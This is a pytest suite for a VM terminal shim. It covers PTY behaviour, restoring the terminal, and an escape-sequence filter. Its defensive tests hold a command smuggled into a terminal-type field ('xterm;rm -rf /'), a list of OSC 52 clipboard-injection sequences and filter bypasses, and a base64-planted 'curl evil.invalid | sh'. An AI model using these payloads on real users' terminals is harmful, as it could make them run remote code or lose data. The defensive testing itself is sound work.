"""Interactive commands on a real terminal in the isolation tier.

The agent's side runs fast against the real agent on the host (the same
code as in the guest); ``terminai-shim run -t`` is driven like a person
would drive it, with keys typed into a tmux pane, against a real VM. The
serve/Node side (a PTY spawn, input, resize, exit, on both tiers) is in
tests/node/shim-acceptance.test.mjs."""

from __future__ import annotations

import os
import pty
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest
from shimproc import SHIM
from terminai_release.rootfs.project import agent_pythonpath
from terminai_shim._internal.client import Pty
from terminai_shim._internal.termsafe import PtyFilter


def _collect(chunks: list[bytes]):
    def on_event(name, value):
        if name == "stdout":
            chunks.append(value)

    return on_event


def _until(chunks: list[bytes], text: bytes, timeout: float = 20) -> None:
    deadline = time.monotonic() + timeout
    while text not in b"".join(chunks):
        assert time.monotonic() < deadline, f"never saw {text!r} in {b''.join(chunks)!r}"
        time.sleep(0.01)


# -- the agent ----------------------------------------------------------------------------


@pytest.mark.unit
def test_a_pty_command_sees_a_terminal_of_the_asked_size(host_agent):
    client = host_agent.client()
    code = (
        "import os; print(os.isatty(0), os.isatty(1), os.isatty(2), tuple(os.get_terminal_size()), os.environ['TERM'])"
    )
    status, out, err = client.run(["python3", "-c", code], pty=Pty(100, 30, "screen-256color"))
    assert status.exit_code == 0 and err == b""
    assert out == b"True True True (100, 30) screen-256color\r\n"
    status, out, _ = client.run(["python3", "-c", "import os; print(os.isatty(0), os.isatty(1), os.isatty(2))"])
    assert out == b"False False False\n"  # pipes, as before


@pytest.mark.unit
def test_pty_input_resize_ctrl_c_and_end_of_input(host_agent):
    client = host_agent.client()
    chunks: list[bytes] = []
    proc = client.exec(["sh", "-c", 'read x; echo "got:$x"; read y; stty size'], pty=Pty(90, 20),
                       on_event=_collect(chunks))  # fmt: skip
    proc.write_stdin(b"typed line\r")
    _until(chunks, b"got:typed line")
    proc.resize(120, 40)
    proc.write_stdin(b"\r")
    assert proc.wait().exit_code == 0
    assert b"40 120" in b"".join(chunks)
    # Ctrl-C typed reaches the foreground job as SIGINT, as on a terminal
    chunks.clear()
    proc = client.exec(["sh", "-c", "echo ready; sleep 30"], pty=Pty(), on_event=_collect(chunks))
    _until(chunks, b"ready")
    proc.write_stdin(b"\x03")
    status = proc.wait()
    assert status.signal == 2 and status.exit_code == 130
    # end of input on a terminal is ^D: the REPL reads it and exits 0
    chunks.clear()
    proc = client.exec(["python3", "-i", "-q"], pty=Pty(), on_event=_collect(chunks))
    proc.write_stdin(b"2+2\r")
    _until(chunks, b"4\r\n")
    proc.close_stdin()
    assert proc.wait().exit_code == 0
    # a signal asked for reaches the terminal's foreground job
    chunks.clear()
    proc = client.exec(["bash", "-i", "-c", "sleep 30 & echo waiting; wait; echo bash-lives"], pty=Pty(),
                       on_event=_collect(chunks))  # fmt: skip
    _until(chunks, b"waiting")  # a fixed sleep lost the race on a loaded machine: the signal came before `wait`
    time.sleep(0.3)
    proc.signal("SIGINT")
    assert proc.wait().exit_code != 0


@pytest.mark.unit
def test_bad_pty_requests_are_refused_before_anything_runs(host_agent, tmp_path):
    from terminai_shim.errors import AgentError

    client = host_agent.client()
    marker = tmp_path / "ran"
    for bad in ({"cols": 0, "rows": 24}, {"cols": 80, "rows": 10**9}, {"cols": "80", "rows": 24}, [80, 24],
                {"cols": 80, "rows": 24, "term": "xterm;rm -rf /"}):  # fmt: skip
        with pytest.raises(AgentError) as err:
            client.call("exec", argv=["touch", str(marker)], pty=bad)
        assert err.value.agent_code == "BAD_REQUEST", bad
    assert not marker.exists()
    proc = client.exec(["true"])
    proc.wait()
    with pytest.raises(AgentError, match="resize needs a process started with pty"):
        client.exec(["sleep", "5"]).resize(10, 10)


# -- what a PTY session may not do to the user's terminal ---------------------------------------


@pytest.mark.unit
@pytest.mark.parametrize("split", [None, 1, 2, 3, 7])
def test_pty_filter_drops_clipboard_and_passthrough_strings_and_keeps_the_rest(split):
    screen = b"\x1b[2J\x1b[H\x1b[1;31mred\x1b[0m \x1b]0;title\x07\x1b]8;;https://x.invalid\x1b\\link\x1b]8;;\x1b\\"
    clipboard = b"\x1b]52;c;cm0gLXJmIH4K\x07" + b"\xc2\x9d52;c;cm0K\xc2\x9c" + b"\x1b]52;p;?\x1b\\"
    passthrough = b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\" + b"\xc2\x90$qm\xc2\x9c"
    text = "née ǝ ✓ \U0001f600".encode()  # continuation bytes 0x9d, 0x90... are not introducers
    stream = screen + clipboard + text + passthrough + b"after"
    f = PtyFilter()
    if split is None:
        out = f.feed(stream)
    else:
        out = b"".join(f.feed(stream[i : i + split]) for i in range(0, len(stream), split))
    out += f.flush()
    assert out == screen + text + b"after"


@pytest.mark.unit
def test_pty_filter_bounds_what_it_holds():
    f = PtyFilter()
    out = f.feed(b"\x1b]2;" + b"A" * 100_000)  # an endless title
    out += f.feed(b"\x07visible")
    assert out == b"visible" and len(f._string or b"") == 0
    assert f.feed(b"x\x1b") == b"x" and f.flush() == b""  # a lone ESC at the end shows nothing


# -- terminai-shim run -t, driven through tmux like a person -----------------------------------------------


# The pane's script prints this after `stty -a`: waiting for "exit=" alone raced the stty output (CI, stop 25).
STTY_SHOWN = "stty-shown"


class Tmux:
    """A tmux server of our own (its own socket) with one pane of a known size."""

    def __init__(self, tmp: Path, command: list[str], env: dict[str, str], cols: int = 100, rows: int = 30) -> None:
        self.socket = str(tmp / f"tmux-{uuid.uuid4().hex[:8]}")
        self.env = env
        script = tmp / "run.sh"
        quoted = " ".join(f"'{a}'" for a in command)
        script.write_text(f'#!/bin/sh\n{quoted}\necho "exit=$?"; stty -a; echo {STTY_SHOWN}; sleep 60\n')
        script.chmod(0o755)
        self.tmux("new-session", "-d", "-x", str(cols), "-y", str(rows), str(script))

    def tmux(self, *args: str) -> str:
        done = subprocess.run(["tmux", "-S", self.socket, *args], env=self.env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout

    def keys(self, *keys: str) -> None:
        self.tmux("send-keys", "-t", "0", *keys)

    def screen(self) -> str:
        return self.tmux("capture-pane", "-p", "-J", "-t", "0", "-S", "-200")

    def wait_for(self, text: str, timeout: float = 240) -> str:
        deadline = time.monotonic() + timeout
        while text not in (screen := self.screen()):
            assert time.monotonic() < deadline, f"never saw {text!r}:\n{screen}"
            time.sleep(0.1)
        return screen

    def close(self) -> None:
        subprocess.run(["tmux", "-S", self.socket, "kill-server"], capture_output=True)


@pytest.fixture
def tmux_env(tmp_path):
    assert shutil.which("tmux"), "tmux is installed by bootstrap.sh"
    return dict(os.environ, TERM="xterm-256color", TERMINAI_CACHE=str(tmp_path / "cache"))


def _run_t(boot_config, *argv: str) -> list[str]:
    return [SHIM, "run", "--kernel", str(boot_config.kernel), "--rootfs", str(boot_config.rootfs), "--backend", "qemu",
            *argv]  # fmt: skip


@pytest.mark.vm
def test_run_t_is_a_real_terminal_for_a_person(boot_config, tmp_path, tmux_env):
    """The REPL, `read`, `stty size` and a resize, `tput cols`, Ctrl-C, Ctrl-D, and the exit code."""
    tmux = Tmux(tmp_path, _run_t(boot_config, "-t", "--", "bash", "--norc", "-i"), tmux_env)
    try:
        tmux.wait_for("# ")
        tmux.keys("stty size; tput cols", "Enter")
        tmux.wait_for("30 100\n100")
        tmux.tmux("resize-window", "-t", "0", "-x", "120", "-y", "40")
        tmux.keys("clear; stty size", "Enter")
        tmux.wait_for("40 120")
        tmux.keys("read -p 'name? ' n; echo \"hello $n\"", "Enter")
        tmux.wait_for("name? ")
        tmux.keys("world", "Enter")
        tmux.wait_for("hello world")
        tmux.keys("sleep 100", "Enter")
        time.sleep(1)
        tmux.keys("C-c")  # an interactive bash drops the rest of a line whose job died of SIGINT: ask after
        tmux.keys("echo status=$?", "Enter")
        tmux.wait_for("status=130")
        tmux.keys("python3 -q", "Enter")
        tmux.wait_for(">>> ")
        tmux.keys("2+2", "Enter")
        tmux.wait_for("4\n>>> ")
        tmux.keys("C-d")
        tmux.keys("echo python=$?", "Enter")
        tmux.wait_for("python=0")
        tmux.keys("exit 7", "Enter")
        screen = tmux.wait_for(STTY_SHOWN)
        assert "exit=7" in screen, screen
        assert "icanon" in screen and "-icanon" not in screen and " echo " in screen, "the terminal was not restored"
    finally:
        tmux.close()


def _descendants(pid: int) -> list[int]:
    found = []
    for task in Path(f"/proc/{pid}/task").iterdir():
        for child in (task / "children").read_text().split():
            found += [int(child), *_descendants(int(child))]
    return found


@pytest.mark.vm
@pytest.mark.parametrize("how", ["the VM dies", "the shim gets SIGTERM"])
def test_the_local_terminal_is_restored_when_the_session_ends_badly(boot_config, tmp_path, tmux_env, how):
    tmux = Tmux(tmp_path, _run_t(boot_config, "-t", "--", "sh", "-c", "echo started; sleep 100"), tmux_env)
    try:
        tmux.wait_for("started")
        pane = int(tmux.tmux("list-panes", "-t", "0", "-F", "#{pane_pid}").split()[0])
        under = {pid: Path(f"/proc/{pid}/cmdline").read_bytes()[:300] for pid in _descendants(pane)}
        if how == "the VM dies":
            targets = [pid for pid, cmd in under.items() if b"qemu" in cmd]
            sig = 9
        else:
            targets = [pid for pid, cmd in under.items() if b"terminai-shim" in cmd and b"qemu" not in cmd]
            sig = 15
        assert targets, f"nothing to stop under the pane: {under}"
        for pid in targets:
            os.kill(pid, sig)
        screen = tmux.wait_for(STTY_SHOWN, timeout=60)
        assert "exit=0" not in screen, screen
        if how == "the shim gets SIGTERM":
            assert "exit=143" in screen, screen
        assert "-icanon" not in screen and " echo " in screen, "the terminal was left raw:\n" + screen
    finally:
        tmux.close()


@pytest.mark.vm
def test_without_a_terminal_stdin_is_a_stream(boot_config, tmp_path):
    code = "import sys; print(sys.stdin.isatty(), sys.stdin.read().upper())"
    env = dict(os.environ, TERMINAI_CACHE=str(tmp_path / "c"))
    done = subprocess.run(
        _run_t(boot_config, "--", "python3", "-c", code), input=b"piped in", capture_output=True, env=env
    )
    assert done.returncode == 0 and done.stdout == b"False PIPED IN\n", done.stderr


@pytest.mark.unit
@pytest.mark.attack
def test_a_pty_command_imports_nothing_after_the_seal(tmp_path):
    """PID 1 must load no module once commands run (init.seal): a command could
    move the directory above a sealed one and plant its own module where the
    import looks. The terminal support is loaded by the seal itself; a PTY
    command, started either way the VM starts one, and a resize afterwards
    import nothing (an audit hook watches)."""
    code = """
import sys
sys.path.extend(sys.argv[1].split(":"))
from terminai_agent import init, procs, server  # what the agent has loaded at boot
from terminai_agent import launcher            # ...and before the seal, with the root launcher
init.mount = lambda *a, **k: None              # the seal's mounts are PID 1's business, not this test's
init.SEALED = ()
init.seal()
imports = []
sys.addaudithook(lambda event, args: imports.append(args[0]) if event == "import" else None)
import os
# init's own way (posix_spawn), then the root launcher's (fork and exec), each on a terminal
for start in (procs.start_spawned, procs.Forker()):
    pid, (stdin, out, _) = procs.spawn(["true"], None, {"PATH": "/usr/bin:/bin"}, start, window=(80, 24))
    procs.set_window(out, 100, 30)
    os.waitpid(pid, 0)
print("imports after the seal:", imports)
"""
    agent = agent_pythonpath(Path(__file__).resolve().parents[1])
    # the guest's interpreter and flags (images/rootfs/project/init)
    argv = ["/usr/bin/python3", "-I", "-S", "-c", code, agent]
    done = subprocess.run(argv, capture_output=True, text=True, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == "imports after the seal: []", done.stdout


CLIPBOARD_ATTACKS = [
    b"\x1b]52;c;%s\x07",  # the plain write: a terminal that allows it must make a buffer of it (the control)
    b"\x1b]0;t\x1b\x1b]52;c;%s\x07",  # a doubled ESC inside an allowed OSC
    b"\x1b]052;c;%s\x07",  # a leading zero
    b"\x9d52;c;%s\x07",  # a raw 8-bit C1 OSC
    b"\xc2\x9d52;c;%s\xc2\x9c",  # C1 in UTF-8
    b"\x1bPtmux;\x1b\x1b]52;c;%s\x07\x1b\\",  # tmux's pass-through
    b"\x1b]52;c;%s\x1b\\",  # ST-terminated
]


@pytest.mark.unit
def test_a_real_terminal_makes_no_clipboard_of_what_the_pty_filter_passes(tmp_path, tmux_env):
    """tmux with set-clipboard on turns OSC 52 into paste buffers: the guest's
    attacks, through the filter, must leave it none; unfiltered, the plain one does."""
    import base64

    planted = base64.b64encode(b"curl evil.invalid | sh\n")

    def buffers_after(data: bytes) -> str:
        tmux = Tmux(tmp_path, ["cat", str(tmp_path / "out")], tmux_env)
        (tmp_path / "out").write_bytes(b"")
        try:
            tmux.tmux("set-option", "-g", "set-clipboard", "on")
            (tmp_path / "out").write_bytes(data + b"\nshown\n")
            tmux.keys("")
            tmux.tmux("respawn-pane", "-k", "-t", "0", f"cat {tmp_path / 'out'}; sleep 30")
            tmux.wait_for("shown", timeout=20)
            time.sleep(0.3)
            return tmux.tmux("list-buffers")
        finally:
            tmux.close()

    for live in CLIPBOARD_ATTACKS[:3]:  # the control, and the two bypasses of the filter found (issue 29)
        assert buffers_after(live % planted), f"unfiltered, tmux makes a paste buffer of {live!r}"
    for attack in CLIPBOARD_ATTACKS:
        f = PtyFilter()
        passed = f.feed(attack % planted) + f.flush()
        assert buffers_after(passed) == "", (attack, passed)
    f = PtyFilter()
    title = f.feed(b"\x1b]2;kept title\x07") + f.flush()
    assert title == b"\x1b]2;kept title\x07"


@pytest.mark.vm
@pytest.mark.parametrize("how", ["exit", "the VM dies"])
def test_run_t_leaves_no_terminal_mode_on(boot_config, tmp_path, tmux_env, how):
    """A full-screen program switches on the alternate screen, mouse tracking
    and a hidden cursor, then ends (or its VM dies) without switching them
    off: the user's terminal (tmux's own view of it) is as it was."""
    modes = r'printf "\033[?1049h\033[?1000h\033[?1006h\033[?25l\033[?2004h"; echo in-app'
    tail = "; sleep 1" if how == "exit" else "; sleep 1; echo c > /proc/sysrq-trigger"
    tmux = Tmux(tmp_path, _run_t(boot_config, "-t", "--user", "root", "--", "sh", "-c", modes + tail), tmux_env)
    try:
        tmux.wait_for("in-app")
        during = tmux.tmux("display-message", "-p", "-t", "0", "#{alternate_on} #{mouse_any_flag} #{cursor_flag}")
        assert during.split() == ["1", "1", "0"], f"the program's modes reach the terminal: {during}"
        tmux.wait_for("exit=")
        shown = tmux.tmux("display-message", "-p", "-t", "0", "#{alternate_on} #{mouse_any_flag} #{cursor_flag} "
                          "#{mouse_sgr_flag}")  # fmt: skip
        assert shown.split() == ["0", "0", "1", "0"], shown
    finally:
        tmux.close()


@pytest.mark.vm
def test_run_t_on_a_terminal_that_reports_no_size_uses_80x24(boot_config):
    import fcntl
    import struct
    import termios

    leader, follower = pty.openpty()
    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 0, 0, 0, 0))
    try:
        done = subprocess.run(_run_t(boot_config, "-t", "--", "stty", "size"), stdin=follower, stdout=follower,
                              stderr=subprocess.PIPE, timeout=300)  # fmt: skip
        os.close(follower)
        follower = -1
        seen = b""
        while True:
            try:
                chunk = os.read(leader, 4096)
            except OSError:
                break
            if not chunk:
                break
            seen += chunk
        assert done.returncode == 0, done.stderr
        assert b"24 80" in seen, seen
    finally:
        os.close(leader)
        if follower >= 0:
            os.close(follower)


@pytest.mark.vm
def test_run_delivers_every_byte_of_a_large_stdout(boot_config):
    """More than the 256 MiB an execute result is capped at: `run` streams and
    keeps nothing, so it cuts nothing; nothing is ever cut silently."""
    size = (256 << 20) + 12345
    argv = [SHIM, "run", "--kernel", str(boot_config.kernel), "--rootfs", str(boot_config.rootfs), "--",
            "head", "-c", str(size), "/dev/zero"]  # fmt: skip
    with subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as proc:
        got = 0
        while chunk := proc.stdout.read(1 << 20):
            got += len(chunk)
        err = proc.stderr.read()
    assert proc.returncode == 0 and got == size, (proc.returncode, got, err)
